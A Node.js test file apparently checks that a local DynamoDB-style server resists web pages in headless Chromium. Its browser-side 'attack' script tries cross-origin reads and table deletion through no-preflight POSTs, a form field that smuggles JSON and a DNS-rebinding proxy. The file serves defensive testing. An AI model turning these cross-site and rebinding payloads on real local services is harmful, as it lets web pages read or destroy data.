// Web pages in Chromium against a server on this machine: what a page of another origin can read and delete, what a page
// whose name was pointed at the server can (DNS rebinding), and that a page on localhost works.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';

import { call, Server, signedHeaders } from '../sdk/harness.mjs';

const chromium = process.env.CHROMIUM ?? '/usr/bin/chromium';
const kPageMillis = 60000;

// The page's script. It runs in the browser, so it uses nothing from here but its argument. Each attempt ends as the text
// that the page could read, or as `failed: NAME`.
async function attack({ target, table, headers }) {
  const seen = {};
  const attempt = async (name, run) => {
    try { seen[name] = await run(); } catch (error) { seen[name] = `failed: ${error.name}`; }
  };
  const read = async (reply) => `${reply.status} ${(await reply.text()).slice(0, 300)}`;
  const api = (operation, body) => fetch(`${target}/`, { method: 'POST', headers: { ...headers, 'X-Amz-Target': `DynamoDB_20120810.${operation}` }, body: JSON.stringify(body) });
  const remove = JSON.stringify({ TableName: table });
  await attempt('scan', async () => read(await api('Scan', { TableName: table })));
  await attempt('delete', async () => read(await api('DeleteTable', { TableName: table })));
  // Requests that a browser sends without a preflight.
  await attempt('simple', async () => read(await fetch(`${target}/`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: remove })));
  await attempt('typeless', async () => read(await fetch(`${target}/`, { method: 'POST', mode: 'no-cors', body: new Blob([remove]) })));
  await attempt('form', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'sink';
    document.body.append(frame);
    const form = document.body.appendChild(document.createElement('form'));
    Object.assign(form, { action: `${target}/`, method: 'post', enctype: 'text/plain', target: 'sink' });
    const field = form.appendChild(document.createElement('input'));
    Object.assign(field, { name: '{"TableName":"', value: `${table}"}` });
    frame.onload = () => {
      let text;
      try { text = frame.contentDocument?.body?.innerText ?? 'failed: closed'; } catch (error) { text = `failed: ${error.name}`; }
      resolve(text.slice(0, 300));
    };
    form.submit();
    setTimeout(() => resolve('failed: nothing was shown'), 5000);
  }));
  const manage = { 'X-Stator-Management': 'true' };
  await attempt('reset', async () => read(await fetch(`${target}/_stator/reset`, { method: 'POST', headers: manage })));
  await attempt('simpleReset', async () => read(await fetch(`${target}/_stator/reset`, { method: 'POST', mode: 'no-cors' })));
  await attempt('status', async () => read(await fetch(`${target}/_stator/status`, { headers: manage })));
  await attempt('metrics', async () => read(await fetch(`${target}/metrics`)));
  await attempt('script', () => new Promise((resolve) => {
    const script = document.createElement('script');
    script.onload = () => resolve('ran');
    script.onerror = () => resolve('failed: refused');
    script.src = `${target}/metrics`;
    document.body.append(script);
  }));
  await fetch('/result', { method: 'POST', body: JSON.stringify(seen) });
}

// Serves the page and takes its result. Every other request goes on to `onward`, as if the name of the page pointed there.
class PageServer {
  static async listen(onward) {
    const pages = new PageServer();
    pages.server = http.createServer((request, reply) => {
      if (request.url === '/page') {
        reply.setHeader('Content-Type', 'text/html');
        reply.end(`<!doctype html><title>page</title><body><script>(${attack})(${JSON.stringify(pages.argument)})</script>`);
      } else if (request.url === '/result') {
        let text = '';
        request.on('data', (chunk) => { text += chunk; });
        request.on('end', () => { reply.end(); pages.done(JSON.parse(text)); });
      } else if (pages.rebound) {
        const more = http.request({ host: '127.0.0.1', port: onward, method: request.method, path: request.url, headers: request.headers }, (answer) => {
          reply.writeHead(answer.statusCode, answer.rawHeaders);
          answer.pipe(reply);
        });
        request.pipe(more);
      } else {
        reply.statusCode = 404;
        reply.end();
      }
    });
    pages.server.listen(0, '127.0.0.1');
    await once(pages.server, 'listening');
    pages.port = pages.server.address().port;
    return pages;
  }
  close() {
    this.server.close();
    this.server.closeAllConnections();
  }

  // Opens the page under that name and returns what it could read. `target`: where it calls; its own origin, if absent.
  async run(name, { target, table }) {
    this.rebound = target === undefined;
    this.argument = { target: target ?? '', table, headers: { ...signedHeaders('Scan'), 'X-Amz-Target': undefined } };
    const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'stator-browser-'));
    const result = new Promise((resolve) => { this.done = resolve; });
    const browser = spawn(chromium, [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update',
      '--disable-sync', '--disable-dev-shm-usage', '--host-resolver-rules=MAP *.example 127.0.0.1', `--user-data-dir=${profile}`, '--remote-debugging-port=0',
      `http://${name}:${this.port}/page`,
    ], { stdio: ['ignore', 'ignore', 'pipe'], detached: true });
    let output = '';
    browser.stderr.on('data', (chunk) => { output = (output + chunk).slice(-4000); });
    const exited = once(browser, 'exit');
    let timer;
    try {
      return await Promise.race([
        result,
        exited.then(() => assert.fail(`the browser ended:\n${output}`)),
        new Promise((_, reject) => { timer = setTimeout(() => reject(new Error(`no result within ${kPageMillis} ms:\n${output}`)), kPageMillis); }),
      ]);
    } finally {
      clearTimeout(timer);
      try { process.kill(-browser.pid, 'SIGKILL'); } catch { /* it has ended */ }
      await exited.catch(() => {});
      fs.rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
    }
  }
}

const missing = !fs.existsSync(chromium) && `there is no ${chromium}`;
describe('pages in a browser', { skip: missing }, () => {
  let server, open, pages;
  before(async () => {
    server = await Server.start({ args: ['--in-memory'] });
    open = await Server.start({ args: ['--in-memory', '--cors', '*'] });
    pages = await PageServer.listen(server.port);
  });
  after(async () => {
    pages?.close();
    await server?.stop();
    await open?.stop();
  });

  const make = async (endpoint, TableName) => {
    const created = await call(endpoint, 'CreateTable', {
      TableName, BillingMode: 'PAY_PER_REQUEST', KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }], AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }],
    });
    assert.equal(created.status, 200, created.text);
    await call(endpoint, 'DescribeTable', { TableName });
    assert.equal((await call(endpoint, 'PutItem', { TableName, Item: { pk: { S: 'secret' } } })).status, 200);
  };
  const count = async (endpoint, TableName) => (await call(endpoint, 'Scan', { TableName })).json().Count;
  const assertNothing = (seen, attempts) => {
    for (const name of attempts) {
      assert.doesNotMatch(seen[name], /^200 /, `${name}: ${seen[name]}`);
      assert.doesNotMatch(seen[name], /secret|uptime|"version"/, `${name}: ${seen[name]}`);
    }
  };
  const everything = ['scan', 'delete', 'simple', 'typeless', 'form', 'reset', 'simpleReset', 'status', 'metrics', 'script'];

  test('a page of another origin can neither read nor delete', async () => {
    await make(server.endpoint, 'other');
    const seen = await pages.run('evil.example', { target: server.endpoint, table: 'other' });
    assert.deepEqual(Object.keys(seen), everything);
    assertNothing(seen, everything);
    for (const name of ['scan', 'delete', 'reset', 'status', 'metrics']) assert.match(seen[name], /^failed: /, `${name}: ${seen[name]}`);
    assert.equal(seen.script, 'failed: refused');
    assert.equal(await count(server.endpoint, 'other'), 1);
  });
  test('a page whose name points at the server can neither', async () => {
    await make(server.endpoint, 'rebound');
    const seen = await pages.run('rebind.example', { table: 'rebound' });
    assertNothing(seen, everything);
    // It is of one origin with the server, so it reads the refusals.
    for (const name of ['scan', 'delete', 'reset', 'status', 'metrics']) assert.match(seen[name], /^403 /, `${name}: ${seen[name]}`);
    assert.equal(await count(server.endpoint, 'rebound'), 1);
  });
  test('a page on localhost reads and deletes, and does not manage', async () => {
    await make(server.endpoint, 'local');
    const seen = await pages.run('localhost', { target: server.endpoint, table: 'local' });
    assert.match(seen.scan, /^200 .*secret/);
    assert.match(seen.delete, /^200 /);
    assertNothing(seen, ['simple', 'typeless', 'form', 'reset', 'simpleReset', 'status', 'metrics', 'script']);
    assert.equal((await call(server.endpoint, 'Scan', { TableName: 'local' })).status, 400);
  });
  test('with --cors=* every page reads and deletes', async () => {
    await open.logged(/any_web_page_may_call/);
    await make(open.endpoint, 'anyone');
    const seen = await pages.run('evil.example', { target: open.endpoint, table: 'anyone' });
    assert.match(seen.scan, /^200 .*secret/);
    assert.match(seen.delete, /^200 /);
    assertNothing(seen, ['reset', 'simpleReset', 'status', 'metrics', 'script']);
  });
});
